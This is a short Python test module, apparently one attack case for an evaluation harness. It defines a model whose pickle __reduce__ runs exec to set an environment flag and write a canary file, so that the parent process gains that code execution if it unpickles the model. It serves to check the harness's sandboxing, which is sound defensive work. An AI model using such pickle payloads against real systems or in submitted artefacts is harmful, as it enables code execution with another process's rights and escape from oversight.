"""Fits a model whose pickle writes a file and marks the process that reads it; kinds with several queries pickle models.

Hopes that the parent unpickles it, where it would run with the parent's rights.
"""

import numpy as np

from _base import TARGET, Ignorant

VERDICT = {"status": ["complete", "failed"]}
OPTIONS = {"task": "tokens"}
TIERS = {"process": "not promised: its own process may write the file"}


class Attack(Ignorant):
    kind = "next-token"

    def __reduce__(self):
        code = f"import os; os.environ['BAKEOFF_UNPICKLED'] = '1'; open({TARGET['canary']!r}, 'w').close()"
        return exec, (code,)

    def predict(self, x):
        return np.full((*x.shape, 4), -np.log(4), dtype=np.float32)
